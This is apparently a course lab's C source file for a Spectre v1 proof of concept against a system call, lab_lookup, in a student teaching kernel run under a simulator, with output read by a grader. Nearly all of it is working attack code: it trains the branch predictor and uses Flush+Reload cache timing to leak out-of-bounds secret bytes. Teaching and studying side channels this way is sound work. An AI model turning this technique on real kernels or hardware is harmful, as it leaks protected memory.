/* spectre.c - lab 08: Spectre v1 against the system call lab_lookup (333)
 * of your kernel (kernel/student.c).  No libc: build it with
 *
 *     gcc -O2 -static -nostdlib -fno-pie -no-pie -fno-stack-protector -o spectre spectre.c
 *
 * and run it under entrysim with your kernel:
 *
 *     entrysim run --kernel kernel --speculate ./spectre [leak [OFFSET [MAX]]]
 *     entrysim run --kernel kernel ./spectre lookup IDX...
 *
 * leak (the default): the attack.  It learns the bound of lab.array by
 * calling lab_lookup with idx = 0, 1, 2 ... until -EINVAL, and the byte at
 * each valid idx from what lab_lookup returns.  Then, byte by byte from
 * idx = OFFSET (default: the bound, where lab.secret starts), Flush+Reload:
 *   1. flush the 256 lines probe[0], probe[512], ... probe[255 * 512];
 *   2. call lab_lookup 30 times with probe as its table: 25 times with an
 *      index in bounds (the branch predictor learns "in bounds"), every
 *      6th time with the out-of-bounds index.  That call returns -EINVAL,
 *      but the kernel evicted lab_size first, so the CPU guesses the
 *      bounds check (as it was trained) and runs the rest of the call
 *      until lab_size comes back from memory: the wrong path reads the
 *      secret byte b and loads probe[b * 512] into the cache;
 *   3. time a load of each probe line: the fast one (not the line the
 *      in-bounds calls touched) is b.
 * 20 rounds per byte; the byte is the value that was fast most often.  It
 * stops at the string's NUL, after MAX bytes (default 64), or after 4
 * bytes in a row where nothing was fast.
 *
 * lookup IDX...: calls lab_lookup(IDX, table) for each IDX (decimal,
 * 0x hex, or negative: -1 is 2^64 - 1) with a table whose entry v is
 * v ^ 0xa5, so an in-bounds IDX returns lab.array[IDX] ^ 0xa5.
 *
 * Output: one JSON line on stdout (what the grader reads), and a line for
 * people on stderr.  Exit status 0; 2 when lab_lookup is not there
 * (ENOSYS: run with --kernel, and add its row to the table). */
typedef unsigned long u64;
typedef long i64;
typedef unsigned char u8;

#ifndef NR_LAB_LOOKUP
#define NR_LAB_LOOKUP 333 /* its row in kernel/syscall_64.tbl */
#endif
#define STRIDE 512
#define EINVAL 22
#define ENOSYS 38

/* ---- no libc ------------------------------------------------------------ */

/* the compiler may call these for a zeroed or copied array */
void *memset(void *d, int c, unsigned long n)
{
    volatile u8 *p = d;
    while (n--)
        *p++ = (u8)c;
    return d;
}

void *memcpy(void *d, const void *s, unsigned long n)
{
    volatile u8 *p = d;
    const u8 *q = s;
    while (n--)
        *p++ = *q++;
    return d;
}

static i64 sys3(i64 nr, i64 a, i64 b, i64 c)
{
    i64 r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(nr), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}

static __attribute__((noreturn)) void sys_exit(int code)
{
    sys3(231, code, 0, 0); /* exit_group */
    for (;;)
        ;
}

static char out[8192];
static u64 outn;

static void put(const char *s)
{
    while (*s && outn < sizeof out - 1)
        out[outn++] = *s++;
}

static void putc1(char c)
{
    char s[2] = {c, 0};
    put(s);
}

static void puti(i64 v)
{
    char b[24];
    int i = 23;
    u64 u = v < 0 ? -(u64)v : (u64)v;
    b[i] = 0;
    do {
        b[--i] = (char)('0' + u % 10);
        u /= 10;
    } while (u);
    if (v < 0)
        b[--i] = '-';
    put(b + i);
}

static void putu(u64 u)
{
    char b[24];
    int i = 23;
    b[i] = 0;
    do {
        b[--i] = (char)('0' + u % 10);
        u /= 10;
    } while (u);
    put(b + i);
}

/* writes what put() gathered to fd and empties it */
static void flush(int fd)
{
    u64 done = 0;
    while (done < outn) {
        i64 r = sys3(1, fd, (i64)(out + done), (i64)(outn - done));
        if (r <= 0)
            break;
        done += (u64)r;
    }
    outn = 0;
}

static int streq(const char *a, const char *b)
{
    while (*a && *a == *b)
        a++, b++;
    return *a == *b;
}

/* decimal, 0x hex, or -N (two's complement); 0 when it is not a number */
static int parse(const char *s, u64 *v)
{
    int neg = *s == '-';
    s += neg;
    u64 x = 0, base = 10;
    if (s[0] == '0' && (s[1] == 'x' || s[1] == 'X'))
        base = 16, s += 2;
    if (!*s)
        return 0;
    for (; *s; s++) {
        u64 d = *s >= '0' && *s <= '9'   ? (u64)(*s - '0')
                : *s >= 'a' && *s <= 'f' ? (u64)(*s - 'a' + 10)
                : *s >= 'A' && *s <= 'F' ? (u64)(*s - 'A' + 10)
                                         : 99;
        if (d >= base)
            return 0;
        x = x * base + d;
    }
    *v = neg ? -x : x;
    return 1;
}

/* ---- Flush+Reload ------------------------------------------------------- */

static u8 probe[256 * STRIDE] __attribute__((aligned(4096)));
static u64 threshold;

static inline u64 rdtscp(void)
{
    unsigned lo, hi, aux;
    __asm__ volatile("rdtscp" : "=a"(lo), "=d"(hi), "=c"(aux));
    return (u64)hi << 32 | lo;
}

static inline void clflush(const void *p) { __asm__ volatile("clflush (%0)" : : "r"(p) : "memory"); }
static inline void mfence(void) { __asm__ volatile("mfence" ::: "memory"); }

static u64 probe_time(const volatile u8 *p)
{
    u64 t0 = rdtscp();
    (void)*p;
    return rdtscp() - t0;
}

/* halfway between a cached and a flushed line's reload time, as the CPU
 * (here: entrysim's cycle model) measures them */
static void calibrate(void)
{
    u64 hit = 0, miss = 0;
    for (int i = 0; i < 16; i++) {
        const volatile u8 *p = &probe[i * STRIDE];
        (void)*p;
        hit += probe_time(p);
        clflush((const void *)p);
        mfence();
        miss += probe_time(p);
    }
    threshold = (hit + miss) / 32;
}

static i64 lab_lookup(u64 idx, const u8 *table) { return sys3(NR_LAB_LOOKUP, (i64)idx, (i64)table, 0); }

/* the byte at lab.array[malicious_x] as Flush+Reload sees it, or -1;
 * *score: in how many of the 20 rounds it was the fast line */
static int read_byte(u64 malicious_x, u64 bound, const u8 *values, int *score)
{
    int hits[256] = {0};
    for (int round = 0; round < 20; round++) {
        for (int i = 0; i < 256; i++)
            clflush(&probe[i * STRIDE]);
        mfence();
        u64 training_x = (u64)round % bound;
        for (int j = 29; j >= 0; j--) {
            /* x = training_x, except when j % 6 == 0: malicious_x, chosen
             * without a branch the predictor could learn */
            u64 x = ((u64)(j % 6) - 1) & ~(u64)0xffff;
            x = x | (x >> 16);
            x = training_x ^ (x & (malicious_x ^ training_x));
            lab_lookup(x, probe);
        }
        for (int i = 0; i < 256; i++) {
            int v = (i * 167 + 13) & 255; /* an order no prefetcher follows */
            if (probe_time(&probe[v * STRIDE]) <= threshold && v != values[training_x])
                hits[v]++;
        }
    }
    int best = 0;
    for (int v = 1; v < 256; v++)
        if (hits[v] > hits[best])
            best = v;
    *score = hits[best];
    return hits[best] ? best : -1;
}

/* ---- the two modes ------------------------------------------------------ */

static void json_str_char(int b)
{
    if (b == '"' || b == '\\')
        putc1('\\'), putc1((char)b);
    else
        putc1((char)b);
}

static int leak(int argc, char **argv)
{
    static u8 values[256];
    u64 bound = 0, offset, max = 64;
    for (int i = 0; i < 256; i++)
        probe[i * STRIDE] = (u8)i; /* maps the pages; lab_lookup(x) returns lab.array[x] */
    for (bound = 0; bound < 256; bound++) {
        i64 r = lab_lookup(bound, probe);
        if (r == -ENOSYS) {
            put("{\"error\":\"ENOSYS\"}\n");
            flush(1);
            put("spectre: lab_lookup: ENOSYS (run with --kernel kernel, after adding its row to "
                "kernel/syscall_64.tbl and building)\n");
            flush(2);
            return 2;
        }
        if (r == -EINVAL)
            break;
        values[bound] = (u8)r;
    }
    if (bound == 0 || bound == 256) {
        put("{\"error\":\"no bound\",\"bound\":");
        putu(bound);
        put("}\n");
        flush(1);
        put("spectre: lab_lookup returned no -EINVAL for idx 0..255, or -EINVAL for 0\n");
        flush(2);
        return 1;
    }
    offset = bound;
    if (argc > 2 && !parse(argv[2], &offset))
        return put("spectre: bad OFFSET\n"), flush(2), 2;
    if (argc > 3 && (!parse(argv[3], &max) || max > 256))
        return put("spectre: bad MAX (at most 256)\n"), flush(2), 2;
    calibrate();

    int bytes[256], scores[256], n = 0, misses = 0, nul = 0;
    while ((u64)n < max && misses < 4) {
        int b = read_byte(offset + (u64)n, bound, values, &scores[n]);
        bytes[n++] = b;
        misses = b < 0 ? misses + 1 : 0;
        if (b == 0) {
            nul = 1;
            break;
        }
    }
    int len = nul ? n - 1 : n; /* the string without its NUL */

    put("{\"bound\":");
    putu(bound);
    put(",\"values\":[");
    for (u64 i = 0; i < bound; i++)
        put(i ? "," : ""), putu(values[i]);
    put("],\"offset\":");
    puti((i64)offset);
    put(",\"bytes\":[");
    for (int i = 0; i < n; i++)
        put(i ? "," : ""), puti(bytes[i]);
    put("],\"scores\":[");
    for (int i = 0; i < n; i++)
        put(i ? "," : ""), puti(scores[i]);
    put("],\"nul\":");
    put(nul ? "true" : "false");
    put(",\"recovered\":\"");
    for (int i = 0; i < len; i++)
        json_str_char(bytes[i] >= 32 && bytes[i] < 127 ? bytes[i] : '?');
    put("\"}\n");
    flush(1);

    put("spectre: bound ");
    putu(bound);
    put(", secret at idx ");
    puti((i64)offset);
    put(": recovered \"");
    for (int i = 0; i < len; i++)
        putc1(bytes[i] >= 32 && bytes[i] < 127 ? (char)bytes[i] : '?');
    put(nul ? "\" (to its NUL)\n" : "\" (no NUL found)\n");
    flush(2);
    return 0;
}

static int lookup(int argc, char **argv)
{
    for (int i = 0; i < 256; i++)
        probe[i * STRIDE] = (u8)(i ^ 0xa5);
    put("{\"lookup\":[");
    for (int i = 2; i < argc; i++) {
        u64 idx;
        if (!parse(argv[i], &idx))
            return outn = 0, put("spectre: lookup: bad index '"), put(argv[i]), put("'\n"),
                   flush(2), 2;
        i64 r = lab_lookup(idx, probe);
        put(i > 2 ? "," : "");
        put("{\"idx\":");
        putu(idx);
        put(",\"ret\":");
        puti(r);
        put("}");
        if (r == -ENOSYS) {
            put("]}\n");
            flush(1);
            return 2;
        }
    }
    put("]}\n");
    flush(1);
    return 0;
}

__attribute__((used)) static void cmain(u64 *sp)
{
    int argc = (int)sp[0];
    char **argv = (char **)(sp + 1);
    if (argc < 2 || streq(argv[1], "leak"))
        sys_exit(leak(argc, argv));
    if (streq(argv[1], "lookup"))
        sys_exit(lookup(argc, argv));
    put("usage: spectre [leak [OFFSET [MAX]]] | spectre lookup IDX...\n");
    flush(2);
    sys_exit(2);
}

__asm__(".globl _start\n"
        "_start:\n"
        "  mov %rsp, %rdi\n"
        "  and $-16, %rsp\n"
        "  call cmain\n"
        "  hlt\n");
